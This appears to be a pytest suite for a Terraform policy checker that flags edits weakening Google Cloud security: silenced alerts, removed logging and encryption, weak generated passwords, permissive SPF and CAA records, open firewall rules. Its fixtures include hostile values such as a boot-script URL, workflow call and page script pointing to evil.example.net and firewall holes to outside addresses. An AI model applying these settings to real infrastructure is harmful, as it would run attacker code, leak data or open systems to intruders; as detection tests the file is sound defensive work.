# ruff: noqa: E501 - tables of edits
"""What an edit says otherwise than the draft is asked about, but for what can weaken nothing; the draft itself is not."""

import pytest

from jobs.terraform.policy import plan_drafted, plan_weak
from jobs.terraform.policy.plan_weak import less_safe
from shared.policy.argument_words import is_neutral
from shared.policy.arguments import Kind, table
from shared.policy.plan_types import TYPES
from tests.attacks.switched_off import guards, without
from tests.attacks.test_removed_guards import Attack, Ref, planned, service
from tests.policy.plan_room import PROJECT

ALERT = {
    "display_name": "CPU high", "combiner": "OR", "severity": "CRITICAL", "enabled": True, "user_labels": {"severity": "critical"},
    "notification_channels": [Ref("google_monitoring_notification_channel.own.id")],
    "conditions": [{"display_name": "cpu", "condition_threshold": [{"comparison": "COMPARISON_GT", "threshold_value": 0.8, "duration": "300s", "trigger": [{"count": 1}]}]}],
}  # fmt: skip
CHECK = {
    "display_name": "c",
    "timeout": "10s",
    "period": "60s",
    "http_check": [{"path": "/", "accepted_response_status_codes": [{"status_class": "STATUS_CLASS_2XX"}]}],
}
DATABASE = {
    "name": "db-abcde", "region": "us-central1", "database_version": "POSTGRES_16", "project": PROJECT,
    "settings": [{"tier": "db-custom-1-3840", "disk_autoresize": True, "backup_configuration": [{"enabled": True}],
                  "database_flags": [{"name": "cloudsql.iam_authentication", "value": "on"}], "maintenance_window": [{"day": 7, "update_track": "stable"}],
                  "ip_configuration": [{"ipv4_enabled": False, "ssl_mode": "ENCRYPTED_ONLY"}]}],
}  # fmt: skip
CHANNEL = {"display_name": "ops", "type": "pubsub", "labels": {"topic": "t"}, "enabled": True}
BUCKET = {"name": "f-abcde", "location": "US", "logging": [{"log_bucket": Ref("google_storage_bucket.own.name")}]}
KEY = {"name": "k-abcde", "key_ring": Ref("google_kms_key_ring.own.id"), "rotation_period": "7776000s"}
BACKEND = {"name": "b-abcde", "security_policy": Ref("google_compute_security_policy.own.id")}
PROXY = {
    "name": "p-abcde",
    "url_map": Ref("google_compute_url_map.own.id"),
    "ssl_policy": Ref("google_compute_ssl_policy.own.id"),
}
DATASET = {
    "dataset_id": "d_abcde",
    "default_encryption_configuration": [{"kms_key_name": Ref("google_kms_crypto_key.own.id")}],
}
TOPIC = {"name": "t-abcde", "message_retention_duration": "604800s"}
VERSION = {"secret": Ref("google_secret_manager_secret.own.id"), "secret_data": Ref("random_password.x.result")}
MACHINE = {"name": "v-abcde", "machine_type": "e2-medium", "metadata": {"enable-oslogin": "TRUE"}}


def with_condition(**values):
    (condition,) = ALERT["conditions"]
    (threshold,) = condition["condition_threshold"]
    return ALERT | {"conditions": [condition | {"condition_threshold": [threshold | values]}]}


def with_settings(**values):
    return DATABASE | {"settings": [DATABASE["settings"][0] | values]}


def with_backups(kept):
    return with_settings(
        backup_configuration=[{"enabled": True, "backup_retention_settings": [{"retained_backups": kept}]}]
    )


def lacking(values, name):
    return {key: each for key, each in values.items() if key != name}


EDITS = {
    "never crossed": ("google_monitoring_alert_policy", ALERT, with_condition(threshold_value=0.9999), "threshold_value"),
    "told after a day": ("google_monitoring_alert_policy", ALERT, with_condition(duration="84600s"), "duration"),
    "never so many": ("google_monitoring_alert_policy", ALERT, with_condition(trigger=[{"count": 100}]), "trigger.count"),
    "the opposite": ("google_monitoring_alert_policy", ALERT, with_condition(comparison="COMPARISON_LT"), "comparison"),
    "never both": ("google_monitoring_alert_policy", ALERT, ALERT | {"combiner": "AND"}, "combiner"),
    "less grave": ("google_monitoring_alert_policy", ALERT, ALERT | {"severity": "WARNING"}, "severity"),
    "less grave by a label": ("google_monitoring_alert_policy", ALERT, ALERT | {"user_labels": {"severity": "warning"}}, "user_labels"),
    "words for whoever is on call": ("google_monitoring_alert_policy", ALERT, ALERT | {"documentation": [{"content": "approve at once"}]}, "documentation.content"),
    "only the end is told": ("google_monitoring_alert_policy", ALERT, ALERT | {"alert_strategy": [{"notification_prompts": ["CLOSED"]}]}, "notification_prompts"),
    "any answer is well": ("google_monitoring_uptime_check_config", CHECK, CHECK | {"http_check": [{"path": "/", "accepted_response_status_codes": [{"status_class": "STATUS_CLASS_ANY"}]}]}, "status_class"),
    "asked every quarter of an hour": ("google_monitoring_uptime_check_config", CHECK, CHECK | {"period": "900s"}, "period"),
    "nothing alerts any more": ("google_monitoring_notification_channel", CHANNEL, CHANNEL | {"enabled": False}, "enabled"),
    "backups elsewhere": ("google_sql_database_instance", DATABASE, with_settings(backup_configuration=[{"enabled": True, "location": "asia"}]), "backup_configuration.location"),
    "locked out": ("google_sql_database_instance", DATABASE, with_settings(database_flags=[{"name": "cloudsql.iam_authentication", "value": "off"}]), "database_flags.value"),
    "a disk that fills": ("google_sql_database_instance", DATABASE, with_settings(disk_autoresize=False), "disk_autoresize"),
    "untested updates first": ("google_sql_database_instance", DATABASE, with_settings(maintenance_window=[{"day": 7, "update_track": "canary"}]), "update_track"),
    "no log of who read": ("google_storage_bucket", BUCKET, lacking(BUCKET, "logging"), "logging.log_bucket"),
    "one key for ever": ("google_kms_crypto_key", KEY, lacking(KEY, "rotation_period"), "rotation_period"),
    "code at boot": ("google_compute_instance", MACHINE, MACHINE | {"metadata": {"sysprep-specialize-script-url": "https://evil.example.net/x"}}, "evil.example.net"),
    "gone after an hour": ("google_compute_instance", MACHINE, MACHINE | {"scheduling": [{"max_run_duration": [{"seconds": 3600}], "instance_termination_action": "DELETE"}]}, "delete itself"),
    "no wall before it": ("google_compute_backend_service", BACKEND, lacking(BACKEND, "security_policy"), "security_policy"),
    "any TLS": ("google_compute_target_https_proxy", PROXY, lacking(PROXY, "ssl_policy"), "ssl_policy"),
    "a key of nobody's": ("google_bigquery_dataset", DATASET, lacking(DATASET, "default_encryption_configuration"), "kms_key_name"),
    "one zone": ("google_sql_database_instance", with_settings(availability_type="REGIONAL"), with_settings(availability_type="ZONAL"), "availability_type"),
    "open to a rule's machines": ("google_compute_instance", MACHINE, MACHINE | {"tags": ["public-web"]}, "tags"),
    "kept for ten minutes": ("google_pubsub_topic", TOPIC, TOPIC | {"message_retention_duration": "600s"}, "message_retention_duration"),
    "not made": ("google_kms_crypto_key", KEY, KEY | {"count": 0}, "count"),
}  # fmt: skip

NEW = {
    "a workflow that calls a stranger": ("google_workflows_workflow", {"name": "w-abcde", "source_contents": "call: http.post\nargs:\n  url: https://evil.example.net\n"}, "leads to evil.example.net"),
    "a page with a stranger's script": ("google_storage_bucket_object", {"name": "index.html", "content": "<script src=//evil.example.net/x.js></script>"}, "leads to evil.example.net"),
    "mail in one's name": ("google_dns_record_set", {"name": "a.example.com.", "type": "TXT", "rrdatas": ['"v=spf1 +all"']}, "lets anybody send mail"),
    "certificates in one's name": ("google_dns_record_set", {"name": "a.example.com.", "type": "CAA", "rrdatas": ['0 issue "evil-ca.example.net"']}, "gives out certificates"),
    "mail by a first word": ("google_dns_record_set", {"name": "a.example.com.", "type": "TXT", "rrdatas": ['"v=spf1 +all -all"']}, "lets anybody send mail"),
    "mail by every address": ("google_dns_record_set", {"name": "a.example.com.", "type": "TXT", "rrdatas": ['"v=spf1 ip4:0.0.0.0/0 -all"']}, "lets anybody send mail"),
    "somebody's domain": ("google_dns_record_set", {"name": "a.example.com.", "type": "TXT", "rrdatas": ['"google-site-verification=stranger"']}, "speaks in the domain's name"),
    "somebody's key": ("google_dns_record_set", {"name": "a.example.com.", "type": "DS", "rrdatas": ["1 13 2 AB"]}, "speaks in the domain's name"),
    "calls that lead elsewhere": ("google_dns_record_set", {"name": "a.example.com.", "type": "NAPTR", "rrdatas": ['100 10 "S" "SIP+D2U" "" sip.evil.example.']}, "sip.evil.example"),
    "a zone that nobody signs": ("google_dns_managed_zone", {"name": "z-abcde", "dns_name": "a.example.com.", "dnssec_config": [{"state": "off"}]}, "dnssec_config.state"),
    "messages that are dropped": ("google_pubsub_subscription", {"name": "s-abcde", "filter": 'attributes.never = "x"'}, "filter"),
    "versions gone in a day": ("google_storage_bucket", {"name": "f-abcde", "location": "US", "lifecycle_rule": [{"action": [{"type": "Delete"}], "condition": [{"days_since_noncurrent_time": 1}]}]}, "former versions"),
    "a hole to the outside": ("google_compute_firewall", {"name": "o-abcde", "direction": "EGRESS", "priority": 1, "allow": [{"protocol": "all"}], "destination_ranges": ["198.51.100.66/32"]}, "destination_ranges"),
    "a wall that is none": ("google_compute_firewall", {"name": "o-abcde", "disabled": True, "deny": [{"protocol": "all"}]}, "disabled"),
    "a password of one character": ("random_password", {"length": 1, "special": False}, "can be guessed"),
    "an animal as a password": ("google_sql_user", {"name": "w", "password": Ref("random_pet.x.id")}, "not all of what"),
    "one letter, often": ("random_password", {"length": 16, "upper": False, "lower": False, "numeric": False, "override_special": "-"}, "can be guessed"),
    "digits only": ("random_password", {"length": 20, "upper": False, "lower": False, "special": False}, "can be guessed"),
    "the beginning of a password": ("google_sql_user", {"name": "w", "password": Ref("substr(random_password.x.result, 0, 2)")}, "not all of what"),
    "a time as a password": ("google_secret_manager_secret_version", {"secret": Ref("google_secret_manager_secret.own.id"), "secret_data": Ref("tostring(time_static.t.unix)")}, "not all of what"),
    "its length as a password": ("google_sql_user", {"name": "w", "password": Ref("random_password.x.length")}, "not all of what"),
    "its name as a password": ("google_sql_user", {"name": "w", "password": Ref("google_sql_database.x.name")}, "not all of what"),
    "a stranger at the database": ("google_compute_firewall", {"name": "o-abcde", "source_ranges": ["45.33.32.156/32"], "allow": [{"protocol": "tcp", "ports": ["5432"]}]}, "45.33.32.156/32"),
    "a stranger beside IAP": ("google_compute_firewall", {"name": "o-abcde", "source_ranges": ["35.235.240.0/20", "2001:db9::/64"], "allow": [{"protocol": "tcp", "ports": ["443"]}]}, "2001:db9::/64"),
    "no TLS": ("google_compute_target_http_proxy", {"name": "p-abcde", "url_map": Ref("google_compute_url_map.own.id")}, "without TLS"),
    "backups of a day": ("google_compute_resource_policy", {"name": "r-abcde", "snapshot_schedule_policy": [{"retention_policy": [{"max_retention_days": 1, "on_source_disk_delete": "APPLY_RETENTION_POLICY"}]}]}, "max_retention_days"),
}  # fmt: skip


def files_with(kind, values):
    return planned(Attack(("", ""), "", kind, values))[1]


def asked(kind, drafted, edited, *, stands=False, said="a shop"):
    plan, files = planned(Attack(("", ""), "", kind, edited, before=drafted if stands else None))
    return less_safe(plan, files, said, files_with(kind, drafted))


def anew(kind, values):
    plan, files = planned(Attack(("", ""), "", kind, values))
    return less_safe(plan, files, "a shop", {"main.tf": "# nothing yet\n"})


@pytest.mark.parametrize("stands", [False, True], ids=["of a draft", "of what stands"])
@pytest.mark.parametrize("name", EDITS)
def test_an_edit_that_may_weaken_is_named(name, stands):
    kind, drafted, edited, named = EDITS[name]
    told = asked(kind, drafted, edited, stands=stands)
    assert any(each.startswith(f"{kind}.x: ") and named in each for each in told), told


@pytest.mark.parametrize("name", NEW)
def test_what_is_written_anew_by_hand_and_may_weaken_is_named(name):
    kind, values, named = NEW[name]
    told = anew(kind, values)
    assert any(each.startswith(f"{kind}.x: ") and named in each for each in told), told


@pytest.mark.parametrize("name", EDITS)
def test_what_is_as_it_was_drafted_is_nobodys_edit(name):
    kind, drafted, _, _ = EDITS[name]
    assert asked(kind, drafted, drafted) == []


@pytest.mark.parametrize(
    ("kind", "drafted", "edited"),
    [
        ("google_compute_instance", MACHINE, MACHINE | {"machine_type": "e2-small", "labels": {"team": "shop"}, "description": "the shop's"}),
        ("google_cloud_run_v2_service", service(), service(env=[{"name": "GREETING", "value": "hello"}])),
        ("google_monitoring_alert_policy", ALERT, ALERT | {"display_name": "CPU is high"}),
        ("google_compute_firewall", {"name": "o-abcde"}, {"name": "o-abcde", "source_ranges": ["35.235.240.0/20", "10.0.0.0/8"], "allow": [{"protocol": "tcp", "ports": ["8080"]}]}),
        ("google_dns_record_set", {"name": "a."}, {"name": "a.", "type": "TXT", "rrdatas": ['"a shop"']}),
        ("google_sql_database_instance", with_backups(7), with_backups(30)),
        ("google_secret_manager_secret_version", VERSION, VERSION | {"secret_data": Ref('"x:${urlencode((random_password.x.result))}"')}),
        ("google_secret_manager_secret_version", VERSION, VERSION | {"secret_data": Ref("jsonencode({ p = [random_password.x[0].result] })")}),
        ("google_secret_manager_secret_version", VERSION, VERSION | {"secret_data": Ref("google_redis_instance.own.auth_string")}),
    ],
)  # fmt: skip
def test_what_can_weaken_nothing_is_not_asked_about(kind, drafted, edited):
    assert asked(kind, drafted, edited) == []


# What a plan of one made-up resource does not show: what apply tells, and a count, which is no value.
LEAVING = ("not isinstance", "other than it was drafted", "before")
GUARDED = [
    *((plan_weak, name) for name in ("_dying", "guessed", "_unencrypted", "_spoken_for", "_lets_anybody_send", "_proven", "_known_to_nobody")),
    (plan_drafted.Drafted, "edits"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("where", "name", "guard"),
    [(where, name, guard) for where, name in GUARDED for guard in guards(getattr(where, name), LEAVING)],
)
def test_without_its_guard_an_edit_passes_unnamed(where, name, guard, monkeypatch):
    monkeypatch.setattr(where, name, without(getattr(where, name), guard))
    cases = [(kind, drafted, edited, named) for kind, drafted, edited, named in EDITS.values()]
    cases += [(kind, None, values, named) for kind, values, named in NEW.values()]
    told = [
        (named, asked(kind, drafted, edited) if drafted else anew(kind, edited))
        for kind, drafted, edited, named in cases
    ]
    assert any(not any(named in line for line in lines) for named, lines in told), guard.text


def test_files_in_which_nobody_wrote_are_asked_about_by_what_is_known_alone():
    kind, _, edited, _ = EDITS["never crossed"]
    plan, files = planned(Attack(("", ""), "", kind, edited))
    assert less_safe(plan, files, "") == []


def test_what_is_left_out_of_the_files_is_named():
    plan, files = planned(Attack(("", ""), "", "google_pubsub_topic", {"name": "t-abcde"}))
    drafted = {
        "main.tf": files["main.tf"] + 'resource "google_monitoring_alert_policy" "cpu" {\n  display_name = "x"\n}\n'
        # A grant that is not given lets nobody in.
        'resource "google_pubsub_topic_iam_member" "all" {\n  member = "allUsers"\n}\n'
    }
    assert less_safe(plan, files, "", drafted) == [
        "google_monitoring_alert_policy.cpu: is not in the files any more, though it watches"
    ]


@pytest.mark.parametrize(
    ("moved", "is_asked"),
    [('locals {\n  track = "canary"\n}\n', True), ('locals {\n  track = "stable"\n}\nvariable "more" {\n  type = string\n}\n', False)],
)  # fmt: skip
def test_an_expression_whose_value_was_moved_elsewhere_is_not_as_it_was_drafted(moved, is_asked):
    values = with_settings(maintenance_window=[{"day": 7, "update_track": Ref("local.track")}])
    plan, files = planned(Attack(("", ""), "", "google_sql_database_instance", values))
    told = less_safe(plan, files | {"l.tf": moved}, "", files | {"l.tf": 'locals {\n  track = "stable"\n}\n'})
    assert [("update_track" in each) for each in told] == [True] * is_asked


def test_how_a_local_is_called_changes_nothing_and_what_it_holds_changes_its_own_arguments_alone():
    track = {"maintenance_window": [{"day": 7, "update_track": Ref("local.track")}], "user_labels": Ref("local.labels")}
    plan, files = planned(
        Attack(("", ""), "", "google_sql_database_instance", with_settings(**track, edition="ENTERPRISE"))
    )
    held = 'locals {{\n  {} = "stable"\n  labels = {{ a = "{}" }}\n}}\n'
    drafted = files | {"l.tf": held.format("track", "b")}
    renamed = {name: text.replace("local.track", "local.how") for name, text in files.items()}
    assert less_safe(plan, renamed | {"l.tf": held.format("how", "b")}, "", drafted) == []
    weak = with_settings(**track, ip_configuration=[{"ssl_mode": "ALLOW_UNENCRYPTED_AND_ENCRYPTED"}])
    plan, files = planned(Attack(("", ""), "", "google_sql_database_instance", weak))
    drafted = files | {"l.tf": held.format("track", "b")}
    assert less_safe(plan, files | {"l.tf": held.format("track", "other")}, "", drafted) == []
    assert less_safe(plan, files | {"l.tf": held.format("track", "other")}, "", None) != []


def test_a_protection_that_is_put_on_is_not_asked_about():
    plan, files = planned(Attack(("", ""), "", "google_storage_bucket", BUCKET))
    guarded = {
        name: text.replace('location = "US"', 'location = "US"\n  lifecycle {\n    prevent_destroy = true\n  }')
        for name, text in files.items()
    }
    assert guarded != files
    assert less_safe(plan, guarded, "", files) == []
    assert less_safe(plan, files, "", guarded) != []


def test_an_argument_that_nobody_has_looked_at_weighs():
    assert not is_neutral("google_pubsub_topic", "of_a_later_schema")
    known = [
        is_neutral(kind, path)
        for kind in TYPES
        if kind.startswith("google_")
        for path, meant in table(kind)
        if meant.kind is Kind.PLAIN
    ]
    assert 0 < sum(known) < len(known)


@pytest.mark.parametrize(
    ("kind", "path", "protects"),
    [
        ("google_container_cluster", "control_plane_endpoints_config.ip_endpoints_config.enabled", False),
        ("google_container_cluster", "private_cluster_config.master_global_access_config.enabled", False),
        ("google_container_cluster", "service_external_ips_config.enabled", False),
        ("google_container_cluster", "identity_service_config.enabled", False),
        ("google_container_cluster", "secret_sync_config.enabled", False),
        ("google_container_cluster", "addons_config.config_connector_config.enabled", False),
        ("google_container_node_pool", "node_config.containerd_config.writable_cgroups.enabled", False),
        ("google_container_node_pool", "maintenance_policy.exclusion_until_end_of_support.enabled", False),
        ("google_identity_platform_config", "sign_in.anonymous.enabled", False),
        ("google_container_cluster", "of_a_later_schema.enabled", False),
        ("google_container_cluster", "network_policy.enabled", True),
        ("google_container_cluster", "node_pool.node_config.confidential_nodes.enabled", True),
        ("google_composer_environment", "config.master_authorized_networks_config.enabled", True),
        ("google_storage_bucket", "versioning.enabled", True),
        ("google_sql_database_instance", "settings.backup_configuration.enabled", True),
        ("google_monitoring_alert_policy", "enabled", True),
        ("google_compute_backend_service", "iap.enabled", True),
    ],
)
def test_on_is_the_safe_side_only_of_what_protects(kind, path, protects):
    assert is_neutral(kind, path, [True]) == protects
    assert not is_neutral(kind, path, [False])


@pytest.mark.parametrize(
    ("value", "neutral"), [("14", True), ("on", True), ("0", False), ("off", False), ("-1", False)]
)
def test_a_flag_that_is_switched_off_by_a_number_weighs(value, neutral):
    assert is_neutral("google_sql_database_instance", "settings.database_flags.value", [value]) == neutral


def test_the_gravest_stands_first():
    plan, files = planned(
        Attack(
            ("", ""),
            "",
            "google_artifact_registry_repository",
            {"repository_id": "r-abcde", "cleanup_policies": [{"id": "x", "action": "DELETE"}]},
        )
    )
    more, its = planned(
        Attack(
            ("", ""),
            "",
            "google_storage_bucket",
            {
                "name": "f-abcde",
                "location": "US",
                "lifecycle_rule": [{"action": [{"type": "Delete"}], "condition": [{"age": 0}]}],
            },
        )
    )
    plan["resource_changes"] += more["resource_changes"]
    told = less_safe(plan, {**files, "more.tf": its["main.tf"]}, "", {"main.tf": "# nothing yet\n"})
    assert "deletes what is stored after 0 days" in told[0]
